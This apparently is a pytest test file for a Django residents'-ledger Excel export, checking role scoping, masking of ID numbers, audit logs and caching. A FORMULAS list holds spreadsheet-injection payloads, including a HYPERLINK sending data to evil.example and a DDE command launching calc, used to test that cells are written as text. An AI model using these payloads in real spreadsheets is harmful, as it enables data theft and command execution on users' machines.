import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from linli.core.actions import create_object
from linli.core.models import AuditLog
from linli.ledger import columns as C
from linli.people.models import Person
from linli.testing import make_id


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def sheet(response):
    ws = load_workbook(io.BytesIO(body(response)))[C.SHEET]
    return list(ws.iter_rows(values_only=True))


@pytest.mark.django_db
def test_export_is_scoped_and_masked(world, login):
    rows = sheet(login(world.users.grid_a).get(reverse("ledger:export")))
    assert rows[0] == tuple(C.EXPORT_HEADERS)
    names = {r[6] for r in rows[1:]}
    assert names == {"居民a1h", "居民a1s", "居民a2h", "居民a2s"}
    ids = {r[8] for r in rows[1:]}
    assert world.p_a1h.id_number_masked in ids and world.p_a1h.id_number not in ids
    assert all("****" in r[9] for r in rows[1:])
    flat = repr(rows)
    assert world.p_a1h.phone not in flat and world.p_c1h.name not in flat


@pytest.mark.django_db
def test_export_respects_the_list_filters(world, login):
    c = login(world.users.community)
    rows = sheet(c.get(reverse("ledger:export"), {"tag": world.tag_party.pk}))
    assert [r[6] for r in rows[1:]] == ["居民a1h"]
    rows = sheet(c.get(reverse("ledger:export"), {"grid": world.grid_b.pk}))
    assert {r[0] for r in rows[1:]} == {"第二网格"}
    rows = sheet(c.get(reverse("ledger:export"), {"grid": world.grid_c.pk}))  # another community: nothing
    assert rows[1:] == []


@pytest.mark.django_db
def test_export_needs_permission(world, login):
    assert login(world.users.building_head).get(reverse("ledger:export")).status_code == 403
    assert login(world.users.property).get(reverse("ledger:export")).status_code == 403


@pytest.mark.django_db
def test_export_query_count_is_constant(world, login, django_assert_max_num_queries):
    c = login(world.users.community)
    c.get(reverse("ledger:export"))
    with django_assert_max_num_queries(20) as small:
        c.get(reverse("ledger:export"))
    for i in range(40):
        p = create_object(
            Person,
            actor=None,
            household=world.hh_a2,
            name=f"导出{i}",
            relation="child",
            id_number=make_id(800 + i, "20120101"),
        )
        p.tags.add(world.tag_party)
    with django_assert_max_num_queries(len(small.captured_queries)):
        r = c.get(reverse("ledger:export"))
    assert len(sheet(r)) == 1 + 8 + 40


# Values a spreadsheet would run as formulas if they were written as formula cells: Excel's and
# LibreOffice's prefixes (= + - @, the full-width ＝ a Chinese keyboard types, OpenFormula's of:=),
# a hyperlink that sends the row away, DDE.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&G2,"详情")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "of:=1+1",
]


def typed_cells(response, sheet_name=C.SHEET):
    """(value, data_type, quote prefix) of every cell, read back with openpyxl in full (not read-only) mode."""
    ws = load_workbook(io.BytesIO(body(response)))[sheet_name]
    return [(c.value, c.data_type, c.quotePrefix) for r in ws.iter_rows() for c in r if c.value is not None]


@pytest.mark.django_db
def test_export_writes_every_cell_as_text_so_no_value_becomes_a_formula(world, login):
    for i, name in enumerate(FORMULAS):
        create_object(
            Person,
            actor=None,
            household=world.hh_a2,
            name=name,
            relation="child",
            id_number=make_id(850 + i, "20120101"),
        )
    cells = typed_cells(login(world.users.community).get(reverse("ledger:export")))
    assert {v for v, _t, _q in cells} >= set(FORMULAS)
    assert {t for _v, t, _q in cells} == {"s"}
    # and Excel's quote prefix (a leading apostrophe) where a spreadsheet would see a formula, so editing the cell
    # keeps it text
    assert {v for v, _t, quoted in cells if quoted} == set(FORMULAS) - {"of:=1+1"}


@pytest.mark.django_db
def test_each_export_is_audited_with_who_what_filter_and_how_many_rows_without_personal_data(world, login):
    c = login(world.users.grid_a)
    target = world.p_a1h
    rows = sheet(c.get(reverse("ledger:export"), {"grid": world.grid_a.pk, "q": target.id_number}))
    assert [r[6] for r in rows[1:]] == [target.name]
    rows = sheet(c.get(reverse("ledger:export"), {"tag": world.tag_party.pk, "gender": "male"}))
    [search, tagged] = AuditLog.objects.filter(action="export").order_by("pk")
    assert (search.actor, search.changes["rows"]) == (world.users.grid_a, [None, 1])
    assert (tagged.actor, tagged.changes["rows"]) == (world.users.grid_a, [None, len(rows) - 1])
    assert f"grid={world.grid_a.pk}" in search.changes["filter"][1] and "q=" in search.changes["filter"][1]
    assert "tag=党员" in tagged.changes["filter"][1] and "gender=male" in tagged.changes["filter"][1]
    # the record belongs to the place whose residents left, so that place's staff see it
    assert (search.grid_id, search.community_id, search.object_repr) == (
        world.grid_a.pk,
        world.c1.pk,
        str(world.grid_a),
    )
    assert AuditLog.objects.restrict(world.users.community).filter(pk=search.pk).exists()
    assert not AuditLog.objects.restrict(world.users.other_community).filter(pk=search.pk).exists()
    text = repr([(log.object_repr, log.note, log.changes) for log in (search, tagged)])
    for secret in (
        target.id_number,
        target.id_number[-4:],
        target.id_number[6:14],
        target.name,
        target.phone,
        target.phone[-4:],
    ):
        assert secret not in text


@pytest.mark.django_db
def test_an_export_of_nothing_is_audited_too(world, login):
    sheet(login(world.users.community).get(reverse("ledger:export"), {"grid": world.grid_c.pk}))
    [log] = AuditLog.objects.filter(action="export")
    assert log.changes["rows"] == [None, 0] and log.actor == world.users.community


@pytest.mark.django_db
def test_export_is_never_cached(world, login):
    r = login(world.users.community).get(reverse("ledger:export"))
    assert "no-store" in r["Cache-Control"] and "private" in r["Cache-Control"]


@pytest.mark.django_db
def test_sensitive_tags_follow_the_reveal_scope_of_each_row(world, login):
    """A grid worker of grid A who is also building head of building B (grid B) exports B's people
    as a building head would see them: without their sensitive tags (people.privacy)."""
    from linli.accounts.models import RoleAssignment
    from linli.accounts.roles import Role

    RoleAssignment.objects.create(user=world.users.grid_a, role=Role.BUILDING_HEAD, building=world.bld_b)
    world.p_a1h.tags.add(world.tag_poor)
    world.p_b1h.tags.add(world.tag_poor)
    rows = {r[6]: r[10] for r in sheet(login(world.users.grid_a).get(reverse("ledger:export")))[1:]}
    assert rows["居民a1h"] == "低保、党员"
    assert rows["居民b1h"] is None  # an empty cell: no tag at all
